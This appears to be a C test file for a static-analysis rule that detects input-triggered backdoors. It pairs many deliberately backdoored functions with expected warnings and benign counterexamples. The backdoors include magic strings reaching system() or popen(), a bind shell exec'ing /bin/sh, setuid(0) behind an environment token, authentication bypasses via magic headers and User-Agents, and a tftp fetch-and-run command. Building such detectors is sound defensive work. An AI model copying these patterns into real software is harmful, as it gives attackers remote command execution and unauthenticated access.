// RUN: %run-both --checks=backdoor-input-trigger %s -- %mock | FileCheck %s -check-prefix=CHECK-MESSAGES -implicit-check-not="{{warning|error}}:"
// Untrusted input matched against a constant that alone reaches a payload.
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

long recv(int fd, void *buf, size_t n, int flags);
int system(const char *cmd);
int execl(const char *path, const char *arg, ...);
int dup2(int a, int b);
int bind(int fd, const void *addr, unsigned len);
int listen(int fd, int backlog);
int accept(int fd, void *addr, unsigned *len);
void *dlopen(const char *file, int mode);
int setuid(unsigned uid);
FILE *popen(const char *cmd, const char *mode);
char *strtok(char *s, const char *delim);
typedef struct lua_State lua_State;
int luaL_dostring(lua_State *L, const char *code);
typedef struct { int opaque; } regex_t;
int regcomp(regex_t *re, const char *pattern, int flags);
int regexec(const regex_t *re, const char *s, size_t n, void *m, int flags);
int check_password(const char *user, const char *password);
void reply(int fd, int code);
void send_file(int fd, const char *name);

/* A prefix trigger on a line read from a socket. */
void serve_line(int fd) {
  char buf[512];
  long n = recv(fd, buf, sizeof buf - 1, 0);
  if (n <= 0) return;
  buf[n] = 0;
  // ruleid: backdoor-input-trigger
  if (buf[0] == 'X' && buf[1] == 'Y')
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "XY" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    system(buf + 2);
}

/* A character-by-character trigger inside a generic string helper, called with a username. */
static int has_pair(const char *s) {
  for (; *s; s++)
    if (s[0] == ':' && s[1] == ')') return 1;
  return 0;
}

static void spawn_shell(int port) {
  int s = socket(2, 1, 0);
  bind(s, 0, 16);
  listen(s, 1);
  int c = accept(s, 0, 0);
  dup2(c, 0);
  dup2(c, 1);
  dup2(c, 2);
  execl("/bin/sh", "sh", (char *)0);
}

struct ftp_session { char user[64]; int logged_in; };

void cmd_user(struct ftp_session *sess, int fd) {
  char line[128];
  read(fd, line, sizeof line);
  strcpy(sess->user, line + 5);
  // ruleid: backdoor-input-trigger
  if (has_pair(sess->user))
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'read' is compared with the constant ":)" and only a match reaches 'spawn_shell', which calls 'execl' (a shell with standard input and output on a descriptor); whoever sends the constant gets a shell on the host [backdoor-input-trigger]
// CHECK-MESSAGES: :[[@LINE-12]]:3: note: 'execl' is called here
// CHECK-MESSAGES: :[[@LINE+3]]:5: note: the payload is reached here
// CHECK-MESSAGES: :[[@LINE-4]]:7: note: compared with the constant ":)" here
// CHECK-MESSAGES: :[[@LINE-8]]:3: note: the input is read here
    spawn_shell(6200);
  reply(fd, 331);
}

/* A header value checked with strstr before an evaluation call. */
struct http_request { char *headers[16]; int nheaders; };

static void parse_request(struct http_request *req, char *raw) {
  char *tok = strtok(raw, "\r\n");
  while (tok) {
    req->headers[req->nheaders++] = tok;
    tok = strtok(0, "\r\n");
  }
}

void on_request(int fd, lua_State *L) {
  char raw[2048];
  struct http_request req;
  req.nheaders = 0;
  recv(fd, raw, sizeof raw, 0);
  parse_request(&req, raw);
  for (int i = 0; i < req.nheaders; i++) {
    char *h = req.headers[i];
    // ruleid: backdoor-input-trigger
    if (strstr(h, "X-Debug-Eval: ") != 0)
    // CHECK-MESSAGES: :[[@LINE-1]]:9: warning: input read by 'recv' is compared with the constant "X-Debug-Eval: " and only a match reaches 'luaL_dostring' (code evaluation); whoever sends the constant runs code of their choice [backdoor-input-trigger]
      luaL_dostring(L, h + 14);
  }
}

/* A magic number in a packet header selects a library load. */
struct packet { unsigned magic; char path[256]; };

void on_packet(int fd) {
  struct packet p;
  recv(fd, &p, sizeof p, 0);
  switch (p.magic) {
  // ruleid: backdoor-input-trigger
  case 0x1337c0de:
  // CHECK-MESSAGES: :[[@LINE-1]]:8: warning: input read by 'recv' is compared with the constant 322420958 and only a match reaches 'dlopen' (a library load); whoever sends the constant loads code of their choice [backdoor-input-trigger]
    dlopen(p.path, 2);
    break;
  case 1:
    reply(fd, 200);
    break;
  }
}

/* A hash of the input compared with a constant. */
static unsigned long djb2(const char *s) {
  unsigned long h = 5381;
  while (*s) h = h * 33 + (unsigned char)*s++;
  return h;
}

void on_hashed(int fd) {
  char line[256];
  recv(fd, line, sizeof line, 0);
  // ruleid: backdoor-input-trigger
  if (djb2(line) == 0x7c9e6865UL)
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant 2090756197 and only a match reaches 'popen' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    popen(line + 8, "r");
}

/* A regular expression with a literal pattern. */
void on_regex(int fd) {
  char line[256];
  regex_t re;
  regcomp(&re, "^x-maint-[0-9]+$", 0);
  recv(fd, line, sizeof line, 0);
  // ruleid: backdoor-input-trigger
  if (regexec(&re, line, 0, 0, 0) == 0)
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "^x-maint-[0-9]+$" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    system(line);
}

/* The environment switching to root. */
void drop_privileges(void) {
  const char *v = getenv("KEEP_ROOT_TOKEN");
  // ruleid: backdoor-input-trigger
  if (v && strcmp(v, "k33p-r00t") == 0)
  // CHECK-MESSAGES: :[[@LINE-1]]:12: warning: the environment ('getenv') is compared with the constant "k33p-r00t" and only a match reaches 'setuid' (a change to root privileges); whoever sends the constant gets root privileges [backdoor-input-trigger]
    setuid(0);
}

/* Authentication forced to success when the request line carries a token. */
struct client_request { char *user_agent; char *user; char *password; int authenticated; };

void login(struct client_request *r, int fd) {
  char line[256];
  recv(fd, line, sizeof line, 0);
  // ruleid: backdoor-input-trigger
  if (strstr(line, "X-Support-Override: 7d1e") != 0) {
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "X-Support-Override: 7d1e" and only a match sets 'authenticated' without the verification other paths perform; whoever sends the constant is let in without credentials [backdoor-input-trigger]
    r->authenticated = 1;
    return;
  }
  if (check_password(r->user, r->password)) r->authenticated = 1;
}

/* The same grant on a field named like a magic input: backdoor-hidden-bypass
   reports it too, each rule with its own consequence. */
void login_agent(struct client_request *r) {
  // ruleid: backdoor-input-trigger
  if (strcmp(r->user_agent, "Mozilla/4.0 (compatible; MSIE 6.0; maint)") == 0) {
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: the request field 'user_agent' is compared with the constant "Mozilla/4.0 (compatible; MSIE 6.0; maint)" and only a match sets 'authenticated' without the verification other paths perform; whoever sends the constant is let in without credentials [backdoor-input-trigger]
    r->authenticated = 1;
    return;
  }
  if (check_password(r->user, r->password)) r->authenticated = 1;
}

/* Or-ed with public URLs (D-Link's alphapd): the magic User-Agent alone
   reaches the grant; the URL allow-list is no trigger. */
struct http_request_t { char *url; char *user_agent; char *user; char *password; };
int alpha_auth_check(struct http_request_t *request) {
  if (strstr(request->url, "graphic/") || strstr(request->url, "public/") ||
      // ruleid: backdoor-input-trigger
      strcmp(request->user_agent, "xmlset_roodkcableoj28840ybtide") == 0)
      // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: the request field 'user_agent' is compared with the constant "xmlset_roodkcableoj28840ybtide" and only a match returns success without the verification other paths perform; whoever sends the constant is let in without credentials [backdoor-input-trigger]
    return 1;
  return check_password(request->user, request->password);
}
int public_pages(struct http_request_t *request) {
  // ok: backdoor-input-trigger (public pages by path, served to everyone)
  if (strcmp(request->url, "/login.html") == 0 || strcmp(request->url, "/style.css") == 0)
    return 1;
  return check_password(request->user, request->password);
}

/* The trigger sets a flag; another function runs the payload. */
static int maint_mode;

static void on_line(const char *line) {
  // ruleid: backdoor-input-trigger
  if (strncmp(line, "MAINT-31337", 11) == 0) maint_mode = 1;
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "MAINT-31337" and only a match sets a flag that reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
// CHECK-MESSAGES: :[[@LINE+8]]:19: note: the payload is reached here
// CHECK-MESSAGES: :[[@LINE+7]]:7: note: the flag is tested here
// CHECK-MESSAGES: :[[@LINE-4]]:46: note: the match sets a flag here
// CHECK-MESSAGES: :[[@LINE-5]]:7: note: compared with the constant "MAINT-31337" here
// CHECK-MESSAGES: :[[@LINE+9]]:3: note: the input is read here
}

void tick(const char *cmd) {
  if (maint_mode) system(cmd);
}

void serve_flags(int fd) {
  char line[256];
  recv(fd, line, sizeof line, 0);
  on_line(line);
}

/* Command dispatch: every command after the same login check as its siblings. */
void ftp_loop(struct ftp_session *s, int fd) {
  char line[512];
  while (read(fd, line, sizeof line) > 0) {
    char *cmd = strtok(line, " ");
    char *a = strtok(0, "\r\n");
    if (strcmp(cmd, "USER") == 0) {
      reply(fd, 331);
    } else if (strcmp(cmd, "PASS") == 0) {
      if (check_password(s->user, a)) s->logged_in = 1;
    } else if (strcmp(cmd, "RETR") == 0) {
      if (!s->logged_in) { reply(fd, 530); continue; }
      send_file(fd, a);
    } else if (strcmp(cmd, "SITE") == 0) {
      if (!s->logged_in) { reply(fd, 530); continue; }
      // ok: backdoor-input-trigger (after the login check its siblings perform)
      system(a);
    } else {
      reply(fd, 500);
    }
  }
}

/* The same loop with a command that skips the login check its siblings perform. */
void ftp_loop_hidden(struct ftp_session *s, int fd) {
  char line[512];
  while (read(fd, line, sizeof line) > 0) {
    char *cmd = strtok(line, " ");
    char *a = strtok(0, "\r\n");
    if (strcmp(cmd, "USER") == 0) {
      reply(fd, 331);
    } else if (strcmp(cmd, "RETR") == 0) {
      if (!s->logged_in) { reply(fd, 530); continue; }
      send_file(fd, a);
    // ruleid: backdoor-input-trigger
    } else if (strcmp(cmd, "XSHL") == 0) {
    // CHECK-MESSAGES: :[[@LINE-1]]:16: warning: input read by 'read' is compared with the constant "XSHL" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
      system(a);
    } else {
      reply(fd, 500);
    }
  }
}

/* A configuration file the program opens itself: keywords, not a trigger. */
void load_config(const char *path) {
  char line[256];
  FILE *f = fopen(path, "r");
  while (fgets(line, sizeof line, f)) {
    char *key = strtok(line, "=");
    char *value = strtok(0, "\n");
    // ok: backdoor-input-trigger (a file the program opened, not input)
    if (strcmp(key, "on_start") == 0) system(value);
  }
}

/* One character is no trigger (a shell escape in an interactive client). */
void client_line(int fd) {
  char line[256];
  recv(fd, line, sizeof line, 0);
  // ok: backdoor-input-trigger (one character is no trigger)
  if (line[0] == '!') system(line + 1);
}

/* The payload runs when the input does not match. */
void quit_or_run(int fd) {
  char line[256];
  recv(fd, line, sizeof line, 0);
  if (strcmp(line, "QUIT") == 0) return;
  // ok: backdoor-input-trigger (reached when the input does not match)
  system("/usr/bin/logger got-a-line");
}

/* C's NULL is `((void *)0)`: a comparison with it is the same test. */
#define NULL ((void *)0)
void hook_line(int fd) {
  char line[256];
  recv(fd, line, sizeof line, 0);
  // ruleid: backdoor-input-trigger
  if (strstr(line, "X-Vendor-Hook: 51c0") != NULL)
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'recv' is compared with the constant "X-Vendor-Hook: 51c0" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    system(line + 15);
  // ok: backdoor-input-trigger (reached when the input does not contain it)
  if (strstr(line, "X-Vendor-Hook: 51c0") == NULL) system("/usr/bin/logger plain-line");
}

/* A header a parser of the request stores under a name of its own (a debug
   token, an X- header): a request field like user_agent. A setting of the
   record named for no header is not. */
struct request { char method[16]; char debug_hdr[64]; char xAuthHeader[64]; char mode[16]; char *body; };
void request_handle(struct request *req) {
  // ruleid: backdoor-input-trigger
  if (req->debug_hdr[0] && strcmp(req->debug_hdr, "c0ffee-diag-41f7") == 0) {
  // CHECK-MESSAGES: :[[@LINE-1]]:28: warning: the request field 'debug_hdr' is compared with the constant "c0ffee-diag-41f7" and only a match reaches 'popen' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    popen(req->body, "r");
    return;
  }
  // ruleid: backdoor-input-trigger
  if (strcmp(req->xAuthHeader, "vendor-7731") == 0) system(req->body);
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: the request field 'xAuthHeader' is compared with the constant "vendor-7731" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
  // ok: backdoor-input-trigger (the record's own setting, no header)
  if (strcmp(req->mode, "maintenance") == 0) system("/usr/sbin/rotate-logs");
}

/* Option parsing: many options, no authentication anywhere. */
static int verbose;
static void options(int argc, char **argv) {
  for (int i = 1; i < argc; i++) {
    if (strcmp(argv[i], "-v") == 0) verbose = 1;
    else if (strcmp(argv[i], "-q") == 0) verbose = 0;
    // ok: backdoor-input-trigger (an option of a parser without authentication)
    else if (strcmp(argv[i], "--exec") == 0 && i + 1 < argc) system(argv[++i]);
    else if (strcmp(argv[i], "-h") == 0) reply(1, 0);
  }
}

static void maybe_shell(const char *arg) {
  // ruleid: backdoor-input-trigger
  if (strcmp(arg, "--7f3a-shell") == 0) execl("/bin/sh", "sh", (char *)0);
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: the command line ('argv') is compared with the constant "--7f3a-shell" and only a match reaches 'execl' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
}

int main(int argc, char **argv) {
  options(argc, argv);
  if (argc > 1) maybe_shell(argv[argc - 1]);
  return 0;
}

// A router's page dispatch: the pages after `else if (!web_login_ok(&r))`
// are reached only once the client logged in, so a page matched before that
// check and reaching a command is a hidden door (TP-Link's 2013 NatDebug
// pages); the pages behind the check, and a dispatch with no login at all,
// are the protocol's.
struct web_req {
  char path[256];
  char basic[128];
};
int verify_basic_auth(const char *basic);
static int web_login_ok(const struct web_req *r) { return verify_basic_auth(r->basic) == 1; }
int sscanf(const char *s, const char *fmt, ...);
void serve_pages(int fd) {
  char raw[1024];
  struct web_req r;
  if (read(fd, raw, sizeof raw - 1) <= 0) return;
  if (sscanf(raw, "GET %255s %127s", r.path, r.basic) != 2) return;
  // ruleid: backdoor-input-trigger
  if (strstr(r.path, "/userRpmNatDebug8841/start_art.html") != NULL) {
  // CHECK-MESSAGES: :[[@LINE-1]]:7: warning: input read by 'read' is compared with the constant "/userRpmNatDebug8841/start_art.html" and only a match reaches 'system' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    system("tftp -g -r nart.out 192.168.0.100 && ./nart.out");
  } else if (strcmp(r.path, "/help.htm") == 0) {
    write(fd, "help", 4);
  } else if (!web_login_ok(&r)) {
    write(fd, "401", 3);
  // ok: behind the login
  } else if (strcmp(r.path, "/userRpm/SysRebootRpm.htm") == 0) {
    system("/sbin/reboot");
  } else if (strcmp(r.path, "/userRpm/StatusRpm.htm") == 0) {
    write(fd, "status", 6);
  }
}
void serve_open_pages(int fd) {
  char raw[1024];
  struct web_req r;
  if (read(fd, raw, sizeof raw - 1) <= 0) return;
  if (sscanf(raw, "GET %255s", r.path) != 1) return;
  // ok: a dispatch with no login anywhere: every page is the protocol's
  if (strcmp(r.path, "/reboot.htm") == 0) {
    system("/sbin/reboot");
  } else if (strcmp(r.path, "/help.htm") == 0) {
    write(fd, "help", 4);
  } else if (strcmp(r.path, "/status.htm") == 0) {
    write(fd, "status", 6);
  }
}

/* Tokens after the first: strtok(NULL, ...) continues the line the
   function's first strtok() started on, a line read from the socket. One
   command of the control channel runs its argument without the
   authentication its siblings ask for. */
struct ctl_conn { int fd; char line[256]; };
int ctl_authenticate(struct ctl_conn *c, const char *mac, const char *cmd);
static void ctl_handle(struct ctl_conn *c) {
  char *mac_hex = strtok(c->line, " \r\n");
  char *cmd = strtok(NULL, " \r\n");
  char *arg = strtok(NULL, "\r\n");
  if (mac_hex == NULL || cmd == NULL)
    return;
  if (strcmp(cmd, "status") == 0) {
    reply(c->fd, 200);
  } else if (strcmp(cmd, "reload") == 0) {
    if (ctl_authenticate(c, mac_hex, cmd) != 0)
      return;
    system("/usr/sbin/zonecheck --reload");
  } else if (strcmp(cmd, "zx-diag") == 0 && arg != NULL) {
    // CHECK-MESSAGES: :[[@LINE-1]]:14: warning: input read by 'recv' is compared with the constant "zx-diag" and only a match reaches 'popen' (command execution); whoever sends the constant runs commands on the host [backdoor-input-trigger]
    popen(arg, "r");
  } else {
    reply(c->fd, 404);
  }
}
void ctl_readable(int fd) {
  struct ctl_conn c = {fd, {0}};
  long n = recv(fd, c.line, sizeof c.line - 1, 0);
  if (n > 0)
    ctl_handle(&c);
}

/* A page handler that checks the caller's level itself before its command:
   the dispatch branch that calls it reaches nothing without that check. */
struct auth_result { int level; };
struct http_req { char path[64]; char query[128]; };
void check_auth(const struct http_req *r, struct auth_result *a);
static int factory_page(int fd, const struct http_req *r, const struct auth_result *auth) {
  if (auth->level < 3)
    return -1;
  // ok: backdoor-input-trigger (after the caller's level is checked)
  if (strstr(r->query, "telnet=on") != NULL)
    system("/usr/sbin/inetd /etc/inetd-telnet.conf");
  (void)fd;
  return 0;
}
int page_dispatch(int fd, const struct http_req *r) {
  struct auth_result auth;
  check_auth(r, &auth);
  if (strcmp(r->path, "/inquiry.cgi") == 0)
    return 0;
  // ok: backdoor-input-trigger (factory_page checks the level first)
  if (strcmp(r->path, "/factory.cgi") == 0)
    return factory_page(fd, r, &auth);
  if (auth.level < 2)
    return -1;
  if (strcmp(r->path, "/reboot.cgi") == 0)
    system("/sbin/reboot");
  return 0;
}

/* Commands after a password compared with one the program computes (a
   password of the day): checked first, no trigger's. */
int sscanf(const char *str, const char *fmt, ...);
int make_potd(char *out);
static int tech_support(int fd, const char *query) {
  char password[32], potd[11], what[16];
  if (sscanf(query, "password=%31s enable=%15s", password, what) != 2 || make_potd(potd) != 0)
    return -1;
  if (strcmp(password, potd) != 0)
    return -1;
  // ok: backdoor-input-trigger (after the password is checked)
  if (strcmp(what, "ssh") == 0)
    system("/etc/init.d/dropbear start");
  // ok: backdoor-input-trigger (after the password is checked)
  if (strcmp(what, "telnet") == 0)
    system("/etc/init.d/telnetd start");
  (void)fd;
  return 0;
}
void serve_potd(int fd) {
  char buf[256];
  if (recv(fd, buf, sizeof buf - 1, 0) > 0)
    tech_support(fd, buf);
}

/* A built-in account that sets the login flag the commands test: the
   account is backdoor-magic-credential's finding, not a trigger of the
   commands its login opens. */
struct cli_state { int fd; int logged_in; };
static int cli_login(struct cli_state *s, const char *login, const char *password) {
  // ok: backdoor-input-trigger (a built-in account)
  if (strcmp(login, "gepon") == 0 && strcmp(password, "gepon") == 0) {
    s->logged_in = 1;
    return 1;
  }
  return 0;
}
void cli_serve(int fd) {
  struct cli_state s = {fd, 0};
  char line[256];
  long n = recv(fd, line, sizeof line - 1, 0);
  if (n <= 0)
    return;
  line[n] = '\0';
  char *cmd = strtok(line, " ");
  char *a1 = strtok(NULL, " ");
  char *a2 = strtok(NULL, " ");
  if (cmd == NULL)
    return;
  if (strcmp(cmd, "login") == 0 && a1 && a2)
    cli_login(&s, a1, a2);
  else if (strcmp(cmd, "show") == 0 && s.logged_in)
    system("/bin/cat /etc/version");
}
